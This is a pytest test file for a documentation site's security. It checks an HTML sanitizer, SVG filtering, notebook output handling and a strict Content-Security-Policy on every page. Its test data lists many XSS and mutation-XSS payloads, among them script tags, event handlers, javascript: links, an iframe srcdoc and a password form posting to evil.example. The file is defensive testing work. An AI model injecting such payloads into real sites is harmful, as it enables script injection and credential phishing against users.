"""Nothing acts but the site's own scripts: sanitized content, drawings that only draw, one strict policy in every page."""

from __future__ import annotations

import base64
import hashlib
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from handbook import notebook, rules, sanitize, svg
from handbook import site as content
from handbook.paths import DOCS, NOTEBOOKS, ROOT

SITE = pytest.mark.xdist_group("site")
HOSTILE = {
    "script": "<p>a</p><script>alert(1)</script>",
    "script in upper case": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "event handler": '<img src="x.png" alt="x" onerror="alert(1)">',
    "event handler without space": '<svg/onload=alert(1)><g/onclick="alert(1)"></g></svg>',
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript link with a tab": '<a href="java\tscript:alert(1)">x</a>',
    "javascript link in entities": '<a href="&#106;avascript&colon;alert(1)">x</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data picture": '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">',
    "frame": '<iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="x.swf">',
    "frame with a document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "fixed box": '<div style="position: fixed; inset: 0; z-index: 99">Log in</div>',
    "style that loads": '<table><tbody><tr><td style="text-align: left; background: url(https://evil.example)">x</td></tr></tbody></table>',
    "style element": "<style>body { display: none }</style>",
    "form that posts": '<form action="https://evil.example/"><input type="password" name="p"></form>',
    "base and meta": '<base href="https://evil.example/"><meta http-equiv="refresh" content="0; url=https://evil.example/"><link rel="stylesheet" href="x">',
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg link": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "svg use": '<svg><use href="data:image/svg+xml;base64,AAAA#x"></use></svg>',
    "svg animation": '<svg><a><set attributeName="href" to="javascript:alert(1)"></set><text>x</text></a></svg>',
    "svg foreign object": '<svg><foreignObject><img src="x" onerror="alert(1)"></foreignObject></svg>',
    "mutation: style in svg": "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "mutation: math": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "mutation: noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "mutation: form in math": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mutation: comment": "<!--><img src=x onerror=alert(1)>-->",
    "mutation: template": "<template><img src=x onerror=alert(1)></template>",
    "mutation: raw text": "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp><textarea><p title=\"</textarea><img src onerror=alert(1)>\">",
    "the theme's own ids": '<h2 id="__config">{"base": "https://evil.example"}</h2><input type="checkbox" id="__search">',
}  # fmt: skip
ACTS = re.compile(
    r"script|style|iframe|object|embed|base|meta|link|template|noscript|foreignobject|set|animate|use|math|textarea|xmp", re.I
)


class Tags(HTMLParser):
    """Every tag with its attributes, and the text of every script."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.scripts: list[tuple[dict[str, str], str]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note one element."""
        self.found.append((tag, {name: value or "" for name, value in attrs}))
        if tag == "script":
            self.scripts.append((self.found[-1][1], ""))

    def handle_data(self, data: str) -> None:
        """Note what a script says."""
        if self.cdata_elem == "script":
            attributes, text = self.scripts.pop()
            self.scripts.append((attributes, text + data))


def dangers(html: str) -> list[str]:
    """Handlers, addresses that run, and schemes other than those of links, in any tag of ``html``."""
    found = []
    for tag, attributes in Tags(html).found:
        for name, value in attributes.items():
            scheme = re.match(r"[\s\x00-\x1f]*([a-z][a-z0-9+.\s-]*):", value, re.I)
            if name.startswith("on") or name in {"srcdoc", "action", "formaction"}:
                found.append(f"<{tag} {name}>")
            elif name in {"href", "src", "xlink:href", "to"} and scheme and scheme[1] not in {"https", "http", "mailto"}:
                found.append(f"<{tag} {name}={value[:20]}>")
    return found


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE)
def test_hostile_html_loses_what_acts_and_that_is_told(html: str) -> None:
    cleaned = sanitize.clean(html)
    assert dangers(cleaned) == []
    for tag, attributes in Tags(cleaned).found:
        assert not ACTS.fullmatch(tag)
        assert attributes.get("style", "") in {"", "text-align:left"}
        assert not attributes.get("id", "").startswith("__")
        assert attributes.get("type") != "password"
    assert sanitize.clean(cleaned) == cleaned
    if html != "<!--><img src=x onerror=alert(1)>-->":
        assert "alert(1)" not in re.sub(r">[^<]*<|^[^<]*<|>[^>]*$", "", cleaned)
    if not re.search(r"\t|&#106;|url\(", html):  # nh3 lets none of these through, so there is nothing to compare with
        assert sanitize.lost(html, cleaned)


@pytest.mark.parametrize(
    "html",
    [
        '<p>A <a class="headerlink" href="#a" title="Link to this section">&para;</a> <br /> &quot;x&quot; &lt;script&gt;</p>',
        '<table>\n<thead>\n<tr>\n<th style="text-align: right;">a</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td style="text-align: right;">1</td>\n</tr>\n</tbody>\n</table>',
        '<table class="dataframe"><thead><tr><th></th><th>a</th></tr></thead><tbody><tr><th>0</th><td rowspan="2">1</td></tr></tbody></table>',
        '<details class="question easy" open="open"><summary>Why?</summary>\n<p>So.</p></details>',
        '<li class="task-list-item"><label class="task-list-control"><input type="checkbox" disabled checked/></label> a</li>',
        '<div class="tabbed-set" data-tabs="1:1"><input checked="checked" id="__tabbed_1_1" name="__tabbed_1" type="radio" /><label for="__tabbed_1_1">a</label></div>',
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><defs><marker id="a" refX="1" markerWidth="2"><path d="M0 0" /></marker></defs><path d="M0 0" marker-end="url(#a)" /></svg>',
        '<p><img alt="A curve." src="../assets/figures/a.svg" width="10" height="20" loading="lazy" decoding="async"></p>',
    ],
)
def test_what_pages_need_stays(html: str) -> None:
    cleaned = sanitize.clean(html)
    assert sanitize.lost(html, cleaned) == ""
    was, now = Tags(html).found, Tags(cleaned).found
    assert [(tag, {k: v.replace(" ", "").rstrip(";") for k, v in a.items()}) for tag, a in was] == [
        (tag, {k: v.replace(" ", "").rstrip(";") for k, v in a.items()}) for tag, a in now
    ]


XMLNS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


@pytest.mark.parametrize(
    ("drawing", "part"),
    [
        (f"<svg {XMLNS}>\n<script>alert(1)</script></svg>", (2, "<script>")),
        (f'<svg {XMLNS} onload="alert(1)"/>', (1, "onload")),
        (f'<svg {XMLNS}><a xlink:href="javascript:alert(1)"/></svg>', (1, "<a>")),
        (f'<svg {XMLNS}><use xlink:href="https://evil.example/#a"/></svg>', (1, 'href="https://evil.example/#a"')),
        (f'<svg {XMLNS}><image href="data:image/svg+xml;base64,AA"/></svg>', (1, 'href="data:image/svg+xml;base64,AA"')),
        (f'<svg {XMLNS}><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"/></foreignObject></svg>', (1, "<foreignObject>")),
        (f'<svg {XMLNS}><h:script xmlns:h="http://www.w3.org/1999/xhtml">1</h:script></svg>', (1, "<script>")),
        (f'<svg {XMLNS}><set attributeName="href" to="javascript:alert(1)"/></svg>', (1, "<set>")),
        (f"<svg {XMLNS}><style>@import '//evil.example'</style></svg>", (1, "@import")),
        (f"<svg {XMLNS}><style>* {{ fill: url(//evil.example) }}</style></svg>", (1, "url(")),
        (f'<svg {XMLNS}><rect style="fill: u\\72l(//evil.example)"/></svg>', (1, 'style="fill: u\\72l(//evil.example)"')),
        (f'<svg {XMLNS}><rect style="position: fixed"/></svg>', (1, 'style="position: fixed"')),
        (f'<svg {XMLNS} xml:base="https://evil.example/"/>', (1, "base")),
        ('<!DOCTYPE svg [<!ENTITY a "b">]><svg/>', (1, "<!DOCTYPE>")),
        (f"<?xml-stylesheet href='https://evil.example/'?><svg {XMLNS}/>", (1, "<?xml-stylesheet>")),
        (f"<svg {XMLNS}><g></svg>", (1, "XML that does not parse (mismatched tag)")),
        (f'<svg {XMLNS}><image href="data:image/png;base64,AA=="/><use xlink:href="#a"/></svg>', None),
    ],
)
def test_a_drawing_that_acts_is_told_from_a_drawing(drawing: str, part: tuple[int, str] | None) -> None:
    assert svg.refused(drawing) == part


def test_the_real_drawings_are_drawings() -> None:
    figures = sorted((DOCS / "assets").rglob("*.svg"))
    pictures = [picture for path in sorted(NOTEBOOKS.glob("*.ipynb")) for picture in notebook.pictures(notebook.read(path))]
    drawn = [path.read_bytes() for path in figures] + [picture.data for picture in pictures if picture.name.endswith("svg")]
    assert len(drawn) > 100
    assert [data[:200] for data in drawn if svg.refused(data)] == []
    assert svg.refused(drawn[0].replace(b"</svg>", b"<script/></svg>"))


@pytest.mark.parametrize("name", ["docs/page.html", "docs/assets/x.js", "docs/x.xml", "docs/assets/javascripts/x.wasm"])
def test_a_file_of_an_unknown_kind_is_refused(name: str, tree: Path) -> None:
    (tree / name).parent.mkdir(parents=True, exist_ok=True)
    (tree / name).write_text("<script>alert(1)</script>")
    assert [problem.path for problem in rules.check(content.load(tree))] == [name]


def test_a_notebook_shows_no_html_of_its_outputs() -> None:
    """Text is shown for a data frame, whatever its HTML says; a picture stays a file, byte for byte."""
    node = notebook.read(ROOT / "tests" / "fixtures" / "sum.ipynb").node.copy()
    drawing = f"<svg {XMLNS} width='1pt' height='1pt'><rect/></svg>"
    cell = next(cell for cell in node.cells if cell.cell_type == "code")
    hostile = {
        "text/html": "<script>alert(1)</script>",
        "application/javascript": "alert(1)",
        "text/plain": "<b>1</b>\n```\n<script>alert(2)</script>",
    }
    cell["outputs"] = [
        {"output_type": "execute_result", "data": hostile},
        {"output_type": "display_data", "data": {"image/svg+xml": drawing}},
    ]
    cell["outputs"] = [type(node)(output, data=type(node)(output["data"])) for output in cell["outputs"]]
    source = notebook.Notebook(Path("x.ipynb"), node)
    assert [picture.data.decode() for picture in notebook.pictures(source) if picture.data.decode() == drawing] == [drawing]
    text = notebook.to_markdown(source, lambda target: target, lambda picture: f"[{picture.name}]")
    assert "alert(1)" not in text
    assert "````" in text  # a longer fence than any in the output, so that the output cannot leave it


# The built site.


@pytest.fixture(scope="session")
def pages(site: Path) -> dict[str, str]:
    """The text of every page of the site."""
    return {path.relative_to(site).as_posix(): path.read_text(encoding="utf-8") for path in sorted(site.rglob("*.html"))}


def policy(page: str) -> dict[str, list[str]]:
    """The directives of a page's policy."""
    (found,) = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', page)
    return {name: values for name, *values in (part.split() for part in found.split(";"))}


@SITE
def test_every_page_has_the_same_policy_before_anything_else(pages: dict[str, str]) -> None:
    policies = [
        re.match(r'(?s)\s*<!doctype html>\s*<html[^>]*>\s*<head>\s*<meta charset="utf-8">(<meta http-equiv[^>]*>)', page)
        for page in pages.values()
    ]
    assert len(pages) > 150
    assert all(policies)
    assert len({found[1] for found in policies if found}) == 1


@SITE
def test_the_policy_is_strict(pages: dict[str, str]) -> None:
    rules_of_page = policy(pages["index.html"])
    scripts = rules_of_page.pop("script-src")
    assert scripts[0] == "'self'"
    assert all(re.fullmatch(r"'sha256-[A-Za-z0-9+/]{43}='", source) for source in scripts[1:])
    assert rules_of_page == {
        "default-src": ["'none'"],
        "style-src": ["'self'", "'unsafe-inline'"],
        "style-src-elem": ["'self'"],
        "style-src-attr": ["'unsafe-inline'"],
        "img-src": ["'self'", "data:"],
        "font-src": ["'self'"],
        "connect-src": ["'self'"],
        "worker-src": ["'self'"],
        "manifest-src": ["'self'"],
        "base-uri": ["'none'"],
        "form-action": ["'none'"],
    }


@SITE
def test_exactly_the_inline_scripts_have_a_hash(pages: dict[str, str]) -> None:
    used = set()
    for name, page in pages.items():
        for attributes, text in Tags(page).scripts:
            if "src" in attributes or attributes.get("type") == "application/json":
                continue
            assert attributes == {}, name
            used.add(f"'sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()}'")
    assert used == set(policy(pages["index.html"])["script-src"]) - {"'self'"}


@SITE
def test_no_page_has_a_handler_a_style_element_or_an_address_that_runs(pages: dict[str, str]) -> None:
    found = {name: dangers(page) for name, page in pages.items()}
    assert {name: problems for name, problems in found.items() if problems} == {}
    assert [name for name, page in pages.items() if "<style" in page] == []


@SITE
def test_the_files_of_the_site_are_of_known_kinds(site: Path) -> None:
    kinds = {path.suffix for path in site.rglob("*") if path.is_file()}
    assert kinds <= {
        ".apkg",
        ".css",
        ".gz",
        ".html",
        ".ipynb",
        ".js",
        ".json",
        ".map",
        ".png",
        ".svg",
        ".txt",
        ".webmanifest",
        ".woff2",
        ".xml",
    }
    assert [path.name for path in site.rglob("*.svg") if svg.refused(path.read_bytes()) and "material" not in str(path)] == []
